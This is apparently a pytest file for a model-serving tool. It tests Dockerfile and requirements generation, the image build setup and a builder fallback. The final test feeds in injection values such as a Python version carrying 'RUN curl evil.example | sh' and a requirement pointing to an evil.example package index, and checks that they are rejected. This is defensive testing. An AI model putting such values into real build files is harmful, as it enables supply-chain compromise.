"""The build context's texts, from plain values; hadolint reads the Dockerfile."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from conveyor.deploy.container import (
    DOCKERIGNORE,
    SERVE_ENV,
    Context,
    build,
    build_command,
    builder,
    dockerfile,
    model_requirements,
    python_version,
    readme,
    requirements_txt,
)
from conveyor.deploy.errors import ContainerError

HADOLINT = shutil.which("hadolint") or str(Path(sys.executable).parent / "hadolint")
CTX = Context(
    model="Fraud",
    version="3",
    uri="models:/Fraud/3",
    python="3.11.7",
    package="ab12.tree",
    wheel="conveyor-0.1.0-py3-none-any.whl",
    conveyor_version="0.1.0",
)


def hadolint(text: str, folder: Path) -> subprocess.CompletedProcess[str]:
    (folder / "Dockerfile").write_text(text)
    return subprocess.run(
        [HADOLINT, "--no-color", "Dockerfile"], cwd=folder, capture_output=True, text=True
    )


def test_hadolint_reports_nothing(tmp_path: Path) -> None:
    done = hadolint(dockerfile(CTX), tmp_path)
    assert done.returncode == 0 and done.stdout == "", done.stdout + done.stderr


def test_hadolint_is_really_looking(tmp_path: Path) -> None:
    done = hadolint("FROM python\nRUN pip install requests\n", tmp_path)
    assert done.returncode != 0 and "DL3006" in done.stdout and "DL3013" in done.stdout


def test_the_dockerfile_builds_in_two_stages_and_serves_as_a_user() -> None:
    text = dockerfile(CTX)
    lines = text.splitlines()
    froms = [line for line in lines if line.startswith("FROM ")]
    assert froms == [
        "FROM python:3.11.7-slim-bookworm AS builder",
        "FROM python:3.11.7-slim-bookworm",
    ]
    assert "pins no digest" in text  # and says how to pin one
    assert "COPY --from=builder /opt/conveyor /opt/conveyor" in lines
    assert "COPY model/ /srv/model/" in lines
    assert "USER 10001:10001" in lines  # numeric: runAsNonRoot can check it
    assert lines[-1] == 'ENTRYPOINT ["conveyor", "serve"]'
    for key, value in SERVE_ENV.items():
        assert f"    {key}={value}" in text
    assert SERVE_ENV["CONVEYOR_HOST"] == "0.0.0.0"
    (health,) = [line for line in lines if line.startswith("  CMD ")]
    command = json.loads(health.removeprefix("  CMD "))
    assert command[:2] == ["python", "-c"] and "/v2/health/ready" in command[2]
    assert 'io.conveyor.package="ab12.tree"' in text and "conveyor-fraud:3" in text


def test_requirements_keep_the_models_pins_over_conveyors() -> None:
    model = ["scikit-learn==1.5.2", "numpy==1.26.4", "skops==0.10.0 --hash=sha256:abc"]
    ours = ["numpy==2.1.0", "pyyaml==6.0.2", "skops==0.11.0"]
    lines = requirements_txt(CTX, model, ours).splitlines()
    kept = [line for line in lines if not line.startswith("#")]
    assert kept == [
        *model,
        "conveyor[serve] @ file:///build/wheels/conveyor-0.1.0-py3-none-any.whl",
        "pyyaml==6.0.2",
    ]


def test_the_context_holds_only_what_the_dockerfile_copies() -> None:
    copied = {"Dockerfile", "requirements.txt", "wheels/", "model/"}
    assert {line[1:] for line in DOCKERIGNORE.splitlines() if line.startswith("!")} == copied
    assert "*" in DOCKERIGNORE.splitlines()


def test_the_readme_says_how_to_build_and_run() -> None:
    text = readme(CTX)
    assert "docker build -t conveyor-fraud:3 ." in text
    assert "podman build -t conveyor-fraud:3 ." in text
    assert "docker run --rm -p 8080:8080 conveyor-fraud:3" in text


def test_the_first_builder_on_path_is_used() -> None:
    assert builder(lambda name: None) is None
    on_path = {"podman": "/usr/bin/podman", "buildah": "/usr/bin/buildah"}
    assert builder(on_path.get) == "podman"
    folder = Path("ctx")
    assert build_command("podman", "conveyor-fraud:3", folder) == [
        "podman", "build", "-t", "conveyor-fraud:3", "ctx",
    ]  # fmt: skip
    assert build_command("buildah", "x:1", folder)[:2] == ["buildah", "bud"]


def test_no_builder_is_said_with_the_command_to_run_elsewhere() -> None:
    with pytest.raises(ContainerError) as caught:
        build(Path("ctx"), "conveyor-fraud:3", which=lambda name: None)
    assert caught.value.message == (
        "cannot build conveyor-fraud:3: none of docker, podman, buildah is on PATH"
    )
    assert "docker build -t conveyor-fraud:3 ctx" in str(caught.value.hint)


def test_a_manifest_cannot_write_into_the_dockerfile_or_requirements() -> None:
    where = Path("model/conveyor-model.yaml")
    assert python_version("3.11.7", where) == "3.11.7"
    assert python_version("3.12", where) == "3.12"
    for bad in ("3.11.7\nRUN curl evil.example | sh", "latest", "3.11.7-alpine"):
        with pytest.raises(ContainerError, match="is not a Python version"):
            python_version(bad, where)
    good = ["scikit-learn==1.5.2", "numpy==2.1.0 --hash=sha256:ab"]
    assert model_requirements(good, where) == good
    for bad in ("--index-url https://evil.example/simple", "-r other.txt", "numpy\n--pre", ""):
        with pytest.raises(ContainerError, match="is not one requirement"):
            model_requirements(["pandas==2.2.0", bad], where)
